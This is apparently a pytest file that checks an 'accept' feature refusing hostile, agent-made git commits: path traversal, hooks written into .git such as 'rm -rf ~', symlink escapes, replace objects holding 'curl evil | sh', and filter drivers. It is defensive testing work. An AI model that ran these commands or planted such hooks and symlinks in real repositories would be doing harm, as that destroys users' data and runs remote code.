"""Accept under attack: hostile result trees, symlinked directories, replace objects, file
system faults part-way, and checkouts that convert line endings.

Result commits are made the way a hostile agent could make them (forged trees with paths git
itself refuses); the user's tree is checked byte for byte after every refusal.
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from accept_attacks import forge_commit, full_disk, leftovers, unwritable
from conftest import A_TXT, B_TXT, git, make_crlf_repo, make_repo, tree_state
from logist_server.domain.errors import ConflictError, GitError
from logist_server.engine.apply import (
    PlannedWrite,
    ResultMismatchError,
    UnsafeResultError,
    content_writes,
    execute_plan,
    plan_accept,
    read_current,
)
from logist_server.vcs.tree_write import MODE_EXEC, MODE_FILE, AcceptWriteError
from test_apply import commit_result, head


@pytest.fixture
def arepo(tmp_path: Path) -> Path:
    return make_repo(
        tmp_path / "repo",
        {"a.txt": A_TXT, "b.txt": B_TXT, "docs/guide.md": b"guide\n", "z.txt": b"zed\n"},
    )


@pytest.fixture
def elsewhere(tmp_path: Path) -> Path:
    path = tmp_path / "elsewhere"
    path.mkdir()
    (path / "guide.md").write_bytes(b"guide\n")  # what the repository's docs/guide.md holds
    return path


def snapshot(root: Path) -> dict[str, tuple[bytes, int]]:
    return tree_state(root)


# -- point 2: nothing outside the repository, nothing into .git or .logist ------------------
@pytest.mark.parametrize(
    "extra",
    [
        {"..": {"..": {"x": b"escaped\n"}}},
        {"../../x": b"escaped\n"},
        {".git": {"hooks": {"pre-commit": b"#!/bin/sh\nrm -rf ~\n"}}},
        {".GIT": {"config": b"[core]\n\tfsmonitor = evil\n"}},
        {".logist": {"roles": {"worker.yml": b"agent: evil\n"}}},
        {"sub": {".git": {"hooks": {"post-checkout": b"evil\n"}}}},
        {"git.": {".git ": {"x": b"evil\n"}}},
        {"": {"x": b"evil\n"}},
        {"dup": b"one\n", "dup ": b"two\n"},
    ],
    ids=[
        "dotdot-dirs",
        "dotdot-name",
        "git-hooks",
        "GIT-case",
        "logist-roles",
        "nested-git",
        "git-trailing-space",
        "empty-name",
        "harmless-neighbours",
    ],
)
def test_a_forged_result_path_is_refused_and_nothing_is_written(
    arepo: Path, extra: dict[str, object]
) -> None:
    base = head(arepo)
    result = forge_commit(arepo, base, {**extra, "a.txt": A_TXT + b"agent\n"})  # type: ignore[dict-item]
    hooks_before = sorted(p.name for p in (arepo / ".git" / "hooks").iterdir())
    before = snapshot(arepo)
    if "dup" in extra:  # the control case: odd but safe names go through
        execute_plan(arepo, plan_accept(arepo, base, result))
        assert (arepo / "dup ").read_bytes() == b"two\n"
        return
    # git itself refuses an empty name; every other forged path is refused by accept.
    with pytest.raises(GitError if "" in extra else UnsafeResultError) as info:
        plan_accept(arepo, base, result)
    assert "\n" not in str(info.value)
    assert "" in extra or "refused" in str(info.value)
    assert snapshot(arepo) == before
    assert sorted(p.name for p in (arepo / ".git" / "hooks").iterdir()) == hooks_before
    assert not (arepo.parent.parent / "x").exists()
    assert not (arepo / ".logist" / "roles").exists()


def test_writer_refuses_unsafe_paths_whatever_the_plan_says(arepo: Path) -> None:
    before = snapshot(arepo)
    for path in (".git/hooks/pre-commit", "../x", "/tmp/x", "a/../../x", ".Logist/x"):
        with pytest.raises(AcceptWriteError) as info:
            execute_plan(arepo, [PlannedWrite("a.txt", b"ok\n", MODE_FILE),
                                 PlannedWrite(path, b"evil\n", MODE_FILE)])  # fmt: skip
        assert path in str(info.value)
    assert snapshot(arepo) == before
    assert not (arepo / ".git" / "hooks" / "pre-commit").exists()


def test_a_symlinked_directory_of_the_user_is_never_written_through(
    arepo: Path, elsewhere: Path
) -> None:
    base = head(arepo)
    result = commit_result(arepo, base, {"evil/payload.sh": b"#!/bin/sh\necho owned\n"})
    (arepo / "evil").symlink_to(elsewhere)
    before = snapshot(arepo)
    with pytest.raises(ConflictError) as info:
        execute_plan(arepo, plan_accept(arepo, base, result))
    message = str(info.value)
    assert "evil/payload.sh: evil is a symbolic link" in message, message
    assert info.value.files == ["evil/payload.sh"]
    assert sorted(p.name for p in elsewhere.iterdir()) == ["guide.md"]
    assert snapshot(arepo) == before


def test_a_file_is_never_read_through_a_symlinked_directory(arepo: Path, elsewhere: Path) -> None:
    """docs/ replaced by a link to a directory holding the same guide.md: accept must not
    read it (as unchanged) and then write through the link."""
    base = head(arepo)
    result = commit_result(arepo, base, {"docs/guide.md": b"guide\nby the agent\n"})
    for child in (arepo / "docs").iterdir():
        child.unlink()
    (arepo / "docs").rmdir()
    (arepo / "docs").symlink_to(elsewhere)
    with pytest.raises(ConflictError) as info:
        execute_plan(arepo, plan_accept(arepo, base, result))
    assert "docs/guide.md: docs is a symbolic link" in str(info.value)
    assert (elsewhere / "guide.md").read_bytes() == b"guide\n"


def test_a_directory_swapped_for_a_symlink_after_planning_is_not_followed(
    arepo: Path, elsewhere: Path
) -> None:
    base = head(arepo)
    result = commit_result(
        arepo, base, {"a.txt": A_TXT + b"agent\n", "docs/guide.md": b"guide\nagent\n"}
    )
    plan = plan_accept(arepo, base, result)
    (arepo / "docs" / "guide.md").unlink()
    (arepo / "docs").rmdir()
    (arepo / "docs").symlink_to(elsewhere)  # the race: after the plan, before the writes
    before = snapshot(arepo)
    with pytest.raises(AcceptWriteError) as info:
        execute_plan(arepo, plan)
    assert "docs/guide.md: docs is a symbolic link" in str(info.value)
    assert (elsewhere / "guide.md").read_bytes() == b"guide\n"
    assert snapshot(arepo) == before
    assert leftovers(arepo) == []


def test_a_symlink_the_job_adds_and_a_file_below_it_in_another_job(
    arepo: Path, elsewhere: Path
) -> None:
    """The issue's two-job escape: job 1 adds `evil -> elsewhere`, job 2 (from the same
    base) adds `evil/payload.sh`. Accepting both in turn never writes into `elsewhere`."""
    base = head(arepo)
    index = arepo.parent / "link-index"
    env = {"GIT_INDEX_FILE": str(index)}
    git(arepo, "read-tree", base, env=env)
    target = git(arepo, "hash-object", "-w", "--stdin", input=str(elsewhere).encode()).strip()
    git(arepo, "update-index", "--add", "--cacheinfo", f"120000,{target},evil", env=env)
    tree = git(arepo, "write-tree", env=env).strip()
    job1 = git(arepo, "commit-tree", tree, "-p", base, "-m", "link").strip()
    job2 = commit_result(arepo, base, {"evil/payload.sh": b"owned\n"})
    execute_plan(arepo, plan_accept(arepo, base, job1))
    assert os.readlink(arepo / "evil") == str(elsewhere)
    with pytest.raises(ConflictError):
        execute_plan(arepo, plan_accept(arepo, base, job2))
    assert sorted(p.name for p in elsewhere.iterdir()) == ["guide.md"]


# -- point 3: exactly what was reviewed -------------------------------------------------------
def test_replace_objects_do_not_change_what_is_accepted(arepo: Path) -> None:
    base = head(arepo)
    reviewed = A_TXT + b"reviewed line\n"
    result = commit_result(arepo, base, {"a.txt": reviewed})
    blob = git(arepo, "rev-parse", f"{result}:a.txt").strip()
    evil = git(arepo, "hash-object", "-w", "--stdin", input=b"curl evil | sh\n").strip()
    git(arepo, "replace", blob, evil)
    other = commit_result(arepo, base, {"b.txt": b"other\n", "payload": b"evil\n"})
    git(arepo, "replace", result, other)
    # the attack is live for git without the protection
    assert git(arepo, "cat-file", "blob", blob) == "curl evil | sh\n"
    assert git(arepo, "show", f"{result}:payload") == "evil\n"
    written = execute_plan(arepo, plan_accept(arepo, base, result))
    assert written == ["a.txt"]
    assert (arepo / "a.txt").read_bytes() == reviewed
    assert not (arepo / "payload").exists()


def test_a_result_whose_tree_is_not_the_recorded_one_is_refused(arepo: Path) -> None:
    base = head(arepo)
    result = commit_result(arepo, base, {"a.txt": A_TXT + b"agent\n"})
    tree = git(arepo, "rev-parse", f"{result}^{{tree}}").strip()
    assert plan_accept(arepo, base, result, expected_tree=tree)
    before = snapshot(arepo)
    with pytest.raises(ResultMismatchError) as info:
        plan_accept(arepo, base, result, expected_tree="0" * 40)
    assert "not the reviewed" in str(info.value)
    for bad in ("HEAD", "--output=/tmp/x", result[:12], "f" * 40):
        with pytest.raises(ResultMismatchError):
            plan_accept(arepo, base, bad)
    assert snapshot(arepo) == before


# -- point 4: all or nothing ------------------------------------------------------------------
def test_a_name_of_255_bytes_is_written(arepo: Path) -> None:
    base = head(arepo)
    name = "n" * 251 + ".txt"
    result = commit_result(arepo, base, {name: b"long\n", "a.txt": A_TXT + b"agent\n"})
    assert sorted(execute_plan(arepo, plan_accept(arepo, base, result))) == sorted(["a.txt", name])
    assert (arepo / name).read_bytes() == b"long\n"
    assert leftovers(arepo) == []


def test_a_name_too_long_for_the_file_system_is_refused_up_front(arepo: Path) -> None:
    base = head(arepo)
    name = "n" * 256
    result = commit_result(arepo, base, {"a.txt": A_TXT + b"agent\n", f"d/{name}": b"x\n"})
    before = snapshot(arepo)
    with pytest.raises(ConflictError) as info:
        plan_accept(arepo, base, result)
    assert f"d/{name}: the name is too long" in str(info.value)
    assert snapshot(arepo) == before


def test_disk_full_part_way_leaves_the_tree_byte_identical(arepo: Path) -> None:
    base = head(arepo)
    big = arepo / "big"
    with full_disk(big):
        result = commit_result(
            arepo,
            base,
            {
                "a.txt": A_TXT + b"agent\n",  # prepared before big/ fails
                "big/huge.bin": b"\1" * 200_000,
                "docs/guide.md": None,
                "new/dir/file.txt": b"new\n",
                "z.txt": b"zed\nagent\n",
            },
        )
        before = snapshot(arepo)
        plan = plan_accept(arepo, base, result)
        with pytest.raises(AcceptWriteError) as info:
            execute_plan(arepo, plan)
        assert str(info.value).startswith("cannot accept: big/huge.bin: ")
        assert "nothing was written" in str(info.value)
        assert snapshot(arepo) == before
        assert leftovers(arepo) == []
        assert not (arepo / "new").exists()


def test_a_failure_while_renaming_puts_back_every_file_already_replaced(arepo: Path) -> None:
    """docs/ refuses changes: the job's deletion of docs/guide.md fails in the commit phase,
    after a.txt was already replaced; a.txt gets its old content back, new files go."""
    base = head(arepo)
    (arepo / "a.txt").write_bytes(b"user first\n" + A_TXT[len(b"line 1\n") :])
    result = commit_result(
        arepo,
        base,
        {"a.txt": A_TXT + b"agent\n", "docs/guide.md": None, "n.txt": b"n\n", "z.txt": b"z\n"},
    )
    plan = plan_accept(arepo, base, result)
    assert [w.path for w in plan] == ["a.txt", "docs/guide.md", "n.txt", "z.txt"]
    before = snapshot(arepo)
    inode = (arepo / "a.txt").stat().st_ino
    with unwritable(arepo / "docs"):
        with pytest.raises(AcceptWriteError) as info:
            execute_plan(arepo, plan)
        assert str(info.value).startswith("cannot accept: docs/guide.md: ")
    assert snapshot(arepo) == before
    assert (arepo / "a.txt").stat().st_ino == inode  # the very file, not a copy
    assert leftovers(arepo) == []


# -- point 5: line endings --------------------------------------------------------------------
def crlf_repo(path: Path, how: str) -> Path:
    return make_crlf_repo(path, {"a.txt": A_TXT, "b.txt": B_TXT}, how)


@pytest.mark.parametrize("how", ["attributes", "autocrlf"])
def test_crlf_checkout_unchanged_by_the_user_takes_the_result(tmp_path: Path, how: str) -> None:
    repo = crlf_repo(tmp_path / "repo", how)
    base = head(repo)
    result = commit_result(repo, base, {"a.txt": A_TXT + b"agent\n"})
    assert execute_plan(repo, plan_accept(repo, base, result)) == ["a.txt"]
    assert (repo / "a.txt").read_bytes() == (A_TXT + b"agent\n").replace(b"\n", b"\r\n")
    assert git(repo, "diff", "--stat").strip().endswith("1 insertion(+)")


@pytest.mark.parametrize("how", ["attributes", "autocrlf"])
def test_crlf_checkout_edited_by_the_user_merges_and_keeps_crlf(tmp_path: Path, how: str) -> None:
    repo = crlf_repo(tmp_path / "repo", how)
    base = head(repo)
    result = commit_result(repo, base, {"a.txt": A_TXT + b"agent\n"})
    user = (b"user first\n" + A_TXT[len(b"line 1\n") :]).replace(b"\n", b"\r\n")
    (repo / "a.txt").write_bytes(user)
    execute_plan(repo, plan_accept(repo, base, result))
    assert (repo / "a.txt").read_bytes() == user + b"agent\r\n"
    # and a real conflict is still one
    result2 = commit_result(repo, base, {"b.txt": b"alpha\nAGENT\ngamma\n"})
    (repo / "b.txt").write_bytes(b"alpha\r\nUSER\r\ngamma\r\n")
    with pytest.raises(ConflictError) as info:
        plan_accept(repo, base, result2)
    assert "b.txt: you changed the same lines" in str(info.value)


def test_a_filter_named_by_the_job_never_runs(tmp_path: Path) -> None:
    """The job's result adds `* filter=marker`; the user has such a driver configured but
    never selected it: accept reads attributes from the checkout, so it does not run."""
    repo = make_repo(tmp_path / "repo")
    flag = tmp_path / "filter-ran"
    git(repo, "config", "filter.marker.clean", f"touch {flag}; cat")
    git(repo, "config", "filter.marker.smudge", f"touch {flag}; cat")
    base = head(repo)
    result = commit_result(
        repo, base, {".gitattributes": b"* filter=marker\n", "a.txt": A_TXT + b"agent\n"}
    )
    (repo / "a.txt").write_bytes(b"user first\n" + A_TXT[len(b"line 1\n") :])
    execute_plan(repo, plan_accept(repo, base, result))
    assert not flag.exists()
    assert (repo / ".gitattributes").read_bytes() == b"* filter=marker\n"


# -- helpers for hunk-by-hunk accepts (the language server) ---------------------------------
def test_hunk_writes_never_go_through_a_symlinked_directory(arepo: Path, elsewhere: Path) -> None:
    (arepo / "tool.sh").write_bytes(b"#!/bin/sh\n")
    (arepo / "tool.sh").chmod(0o755)
    assert read_current(arepo, "docs/guide.md") == b"guide\n"
    assert read_current(arepo, ".git/config") is None
    writes = content_writes(arepo, {"a.txt": b"one\n", "tool.sh": b"#!/bin/sh\necho\n"})
    assert [(w.path, w.mode) for w in writes] == [("a.txt", MODE_FILE), ("tool.sh", MODE_EXEC)]
    (arepo / "link").symlink_to(elsewhere)
    assert read_current(arepo, "link/guide.md") is None  # elsewhere/guide.md exists
    before = snapshot(arepo)
    with pytest.raises(AcceptWriteError) as info:
        execute_plan(arepo, writes + content_writes(arepo, {"link/guide.md": b"owned\n"}))
    assert "link/guide.md: link is a symbolic link" in str(info.value)
    assert snapshot(arepo) == before
    assert (elsewhere / "guide.md").read_bytes() == b"guide\n"


def test_a_forged_path_refuses_even_a_partial_accept(arepo: Path) -> None:
    base = head(arepo)
    result = forge_commit(
        arepo, base, {".git": {"hooks": {"pre-commit": b"evil\n"}}, "a.txt": A_TXT + b"x\n"}
    )
    with pytest.raises(UnsafeResultError):
        plan_accept(arepo, base, result, only={"a.txt"})


def test_a_symlink_target_that_cannot_exist_is_refused_cleanly(arepo: Path) -> None:
    base = head(arepo)
    index = arepo.parent / "nul-index"
    env = {"GIT_INDEX_FILE": str(index)}
    git(arepo, "read-tree", base, env=env)
    target = git(arepo, "hash-object", "-w", "--stdin", input=b"/tmp\0/x").strip()
    git(arepo, "update-index", "--add", "--cacheinfo", f"120000,{target},link", env=env)
    blob = git(arepo, "hash-object", "-w", "--stdin", input=A_TXT + b"x\n").strip()
    git(arepo, "update-index", "--cacheinfo", f"100644,{blob},a.txt", env=env)
    tree = git(arepo, "write-tree", env=env).strip()
    result = git(arepo, "commit-tree", tree, "-p", base, "-m", "nul").strip()
    before = snapshot(arepo)
    with pytest.raises(AcceptWriteError) as info:
        execute_plan(arepo, plan_accept(arepo, base, result))
    assert "link: not a valid symbolic link target" in str(info.value)
    assert snapshot(arepo) == before
    assert leftovers(arepo) == []


def test_a_working_tree_encoding_is_compared_and_written_as_checked_out(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "repo", {"a.txt": A_TXT})
    (repo / ".gitattributes").write_bytes(b"*.txt text working-tree-encoding=UTF-16\n")
    git(repo, "add", ".gitattributes")
    git(repo, "commit", "-q", "-m", "utf-16")
    (repo / "a.txt").unlink()
    git(repo, "checkout", "--", "a.txt")
    assert (repo / "a.txt").read_bytes() == A_TXT.decode().encode("utf-16")
    base = head(repo)
    result = commit_result(repo, base, {"a.txt": A_TXT + b"agent\n"})
    user = b"user first\n" + A_TXT[len(b"line 1\n") :]
    (repo / "a.txt").write_bytes(user.decode().encode("utf-16"))
    execute_plan(repo, plan_accept(repo, base, result))
    assert (repo / "a.txt").read_bytes().decode("utf-16") == (user + b"agent\n").decode()


def test_undo_after_a_deletion_of_what_was_not_there_reports_nothing_lost(arepo: Path) -> None:
    writes = [
        PlannedWrite("gone/x.txt", None, MODE_FILE),  # its directory does not exist
        PlannedWrite("b.txt", None, MODE_FILE),
        PlannedWrite("a.txt", b"new\n", MODE_FILE),
        PlannedWrite("docs/guide.md", None, MODE_FILE),  # fails: docs/ refuses changes
    ]
    before = snapshot(arepo)
    with unwritable(arepo / "docs"), pytest.raises(AcceptWriteError) as info:
        execute_plan(arepo, writes)
    assert str(info.value).endswith("(nothing was written)"), str(info.value)
    assert snapshot(arepo) == before
    assert leftovers(arepo) == []


def test_files_inside_a_nested_repository_are_refused(arepo: Path) -> None:
    """A result writing into a submodule's or nested clone's working tree (say, next to its
    own hooks' config) is refused: that is another repository."""
    base = head(arepo)
    result = commit_result(arepo, base, {"vendor/lib/evil.py": b"import os\n"})
    make_repo(arepo / "vendor" / "lib", {"lib.py": b"pass\n"})
    before = snapshot(arepo)
    with pytest.raises(ConflictError) as info:
        plan_accept(arepo, base, result)
    assert "vendor/lib/evil.py: vendor/lib is another git repository" in str(info.value)
    assert snapshot(arepo) == before


def test_a_file_saved_between_plan_and_write_is_not_overwritten(arepo: Path) -> None:
    base = head(arepo)
    result = commit_result(arepo, base, {"a.txt": A_TXT + b"agent\n", "b.txt": b"b\n"})
    plan = plan_accept(arepo, base, result)
    (arepo / "b.txt").write_bytes(B_TXT + b"saved by the editor just now\n")
    before = snapshot(arepo)
    with pytest.raises(AcceptWriteError) as info:
        execute_plan(arepo, plan)
    assert "b.txt: changed while accepting" in str(info.value)
    assert snapshot(arepo) == before
